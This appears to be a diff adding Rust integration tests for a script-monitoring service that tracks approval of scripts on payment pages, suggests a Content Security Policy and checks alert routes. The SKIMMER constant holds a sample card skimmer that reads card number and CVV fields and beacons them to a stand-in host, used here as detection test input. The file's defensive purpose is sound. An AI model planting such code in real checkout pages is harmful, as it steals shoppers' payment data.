@@ -1,0 +1,171 @@
+//! Payment pages, a suggested policy, and test calls of alert routes, over the router.
+
+use std::time::Duration;
+
+use axum::Router;
+use axum::body::{Body, to_bytes};
+use axum::http::{Method, Request, StatusCode};
+use serde_json::{Value, json};
+use service::policy::Csp;
+use service::{Config, Service};
+use tower::ServiceExt as _;
+use verdict::ResourceKind;
+
+struct Shop {
+    folder: tempfile::TempDir,
+    service: Service,
+    router: Router,
+}
+
+impl Shop {
+    fn new(config: &str) -> Self {
+        let folder = tempfile::tempdir().unwrap();
+        let mut config = Config::parse(&config.replace("FOLDER", folder.path().to_str().unwrap())).unwrap();
+        config.state = folder.path().join("state");
+        let service = Service::open(config).unwrap();
+        let router = service.router();
+        Self { folder, service, router }
+    }
+
+    async fn send(&self, method: Method, path: &str, body: impl Into<Body>) -> (StatusCode, String) {
+        let token = self.service.new_token().unwrap();
+        let request = Request::builder().method(method).uri(path).header("authorization", format!("Bearer {token}"));
+        let request = request.header("content-type", "application/json").body(body.into()).unwrap();
+        let answer = self.router.clone().oneshot(request).await.unwrap();
+        let status = answer.status();
+        let bytes = to_bytes(answer.into_body(), 10 << 20).await.unwrap();
+        (status, String::from_utf8(bytes.to_vec()).unwrap())
+    }
+
+    async fn get(&self, path: &str) -> Value {
+        let (status, text) = self.send(Method::GET, path, "").await;
+        assert_eq!(status, StatusCode::OK, "{path}: {text}");
+        serde_json::from_str(&text).unwrap()
+    }
+
+    /// Three reports of each script, taken in.
+    async fn seen(&self, scripts: &[(&str, &str, &str)]) {
+        let mut lines = String::new();
+        for (url, page, text) in scripts {
+            let line = json!({"kind": "script", "url": url, "page_url": page, "text": text});
+            lines.push_str(&format!("{line}\n").repeat(3));
+        }
+        let (status, text) = self.send(Method::POST, "/observe/shop", lines).await;
+        assert_eq!(status, StatusCode::OK, "{text}");
+        let name = "shop".parse().unwrap();
+        for _ in 0..1_500 {
+            if let Some(site) = self.service.sites().get(&name).await.unwrap()
+                && site.read(|reader| reader.count()).await.unwrap() >= scripts.len() as u64
+            {
+                return;
+            }
+            tokio::time::sleep(Duration::from_millis(20)).await;
+        }
+        panic!("it never came into the inventory");
+    }
+}
+
+const PAY: &str = "https://shop.example/checkout/pay";
+/// Sends nothing: the host does not exist, and nobody runs it.
+const SKIMMER: &str = "document.querySelector('#pay').addEventListener('click', function () {\
+    var card = { cc_number: document.getElementById('cc_number').value, cvv: document.getElementById('cc_cid').value };\
+    new Image().src = '//collect.invalid/p.gif?d=' + btoa(JSON.stringify(card));\
+});";
+
+#[tokio::test(flavor = "multi_thread")]
+async fn payment_pages_tell_what_was_approved_and_what_was_not() {
+    let shop = Shop::new("");
+    shop.seen(&[
+        ("https://cdn.pay.example/sdk.js", PAY, "rate(1)"),
+        ("https://cdn.stars.example/w.js", PAY, "rate(2)"),
+        ("https://cdn.blog.example/b.js", "https://shop.example/blog", "rate(3)"),
+        ("https://cdn.bad.example/x.js", PAY, SKIMMER),
+    ])
+    .await;
+    let resources = shop.get("/api/v1/sites/shop/resources").await;
+    let id = |host: &str| {
+        let rows = resources["resources"].as_array().unwrap();
+        rows.iter().find(|row| row["host"] == host).unwrap()["id"].as_u64().unwrap()
+    };
+    let said = json!({"justification": "takes the payment", "approved": true});
+    let path = format!("/api/v1/sites/shop/resources/{}/justification", id("cdn.pay.example"));
+    let (status, text) = shop.send(Method::POST, &path, said.to_string()).await;
+    assert!(status.is_success(), "{text}");
+    let rows = shop.get("/api/v1/sites/shop/pci?page=https://shop.example/checkout/*").await;
+    let rows = rows["rows"].as_array().unwrap();
+    let shown: Vec<(&str, &str, bool)> = rows
+        .iter()
+        .map(|row| {
+            let text = |name: &str| row[name].as_str().unwrap();
+            (text("host"), text("integrity"), row["malicious"].as_bool().unwrap())
+        })
+        .collect();
+    assert_eq!(
+        shown,
+        [
+            ("cdn.bad.example", "not_approved", true),
+            ("cdn.stars.example", "not_approved", false),
+            ("cdn.pay.example", "approved", false),
+        ]
+    );
+    assert_eq!(rows[2]["justification"], "takes the payment");
+    assert!(rows[2]["review_by"].as_str() > rows[2]["approved_at"].as_str());
+    let (_, csv) = shop.send(Method::GET, "/api/v1/sites/shop/pci?export=csv", "").await;
+    assert_eq!(csv.lines().count(), 5);
+    // Another content is no longer what was approved.
+    shop.seen(&[("https://cdn.pay.example/sdk.js", PAY, "rate(1); more()")]).await;
+    for _ in 0..1_500 {
+        let rows = shop.get("/api/v1/sites/shop/pci?page=*pay").await;
+        if rows["rows"].as_array().unwrap().iter().any(|row| row["integrity"] == "changed") {
+            return;
+        }
+        tokio::time::sleep(Duration::from_millis(20)).await;
+    }
+    panic!("the change was not told");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_suggested_policy_allows_what_was_seen_and_not_what_is_malicious() {
+    let shop = Shop::new("");
+    shop.seen(&[
+        ("https://shop.example/own.js", PAY, "rate(1)"),
+        ("https://cdn.stars.example:8443/w.js", PAY, "rate(2)"),
+        ("https://cdn.bad.example/x.js", PAY, SKIMMER),
+    ])
+    .await;
+    let suggestion = shop.get("/api/v1/sites/shop/policy-suggestion").await;
+    let value = suggestion["value"].as_str().unwrap();
+    let csp: Csp = value.parse().unwrap();
+    for (url, allowed) in [
+        ("https://shop.example/own.js", true),
+        ("https://cdn.stars.example:8443/w.js", true),
+        ("https://cdn.bad.example/x.js", false),
+        ("https://cdn.other.example/y.js", false),
+    ] {
+        assert_eq!(csp.allows(ResourceKind::Script, url, PAY), allowed, "{url}: {value}");
+    }
+    let blocked = suggestion["blocked"].as_array().unwrap();
+    assert!(blocked.iter().all(|one| one["url"].as_str().unwrap().contains("cdn.bad.example")), "{suggestion}");
+    assert!(blocked.iter().any(|one| one["malicious"] == true), "{suggestion}");
+    let (status, _) = shop.send(Method::GET, "/api/v1/sites/shop/policy-suggestion?days=0", "").await;
+    assert_eq!(status, StatusCode::BAD_REQUEST);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_test_call_arrives_or_says_why_not() {
+    let shop = Shop::new(
+        "[[alerts.routes]]\nname = 'siem'\nto = { ecs = { path = 'FOLDER/alerts.jsonl' } }\n\
+         [[alerts.routes]]\nname = 'broken'\nto = { ecs = { path = 'FOLDER/none/alerts.jsonl' } }\n",
+    );
+    let routes = shop.get("/api/v1/alert-routes").await;
+    assert_eq!(routes["routes"][0], json!({"name": "siem", "receiver": "ecs"}));
+    let call = json!({"site": "shop"}).to_string();
+    let (_, text) = shop.send(Method::POST, "/api/v1/alert-routes/siem/test", call.clone()).await;
+    assert_eq!(serde_json::from_str::<Value>(&text).unwrap(), json!({"arrived": true}));
+    assert_eq!(std::fs::read_to_string(shop.folder.path().join("alerts.jsonl")).unwrap().lines().count(), 1);
+    let (_, text) = shop.send(Method::POST, "/api/v1/alert-routes/broken/test", call.clone()).await;
+    let answer: Value = serde_json::from_str(&text).unwrap();
+    assert!(answer["arrived"] == false && answer["problem"].as_str().unwrap().contains("cannot be written"), "{text}");
+    let (status, _) = shop.send(Method::POST, "/api/v1/alert-routes/none/test", call).await;
+    assert_eq!(status, StatusCode::NOT_FOUND);
+}
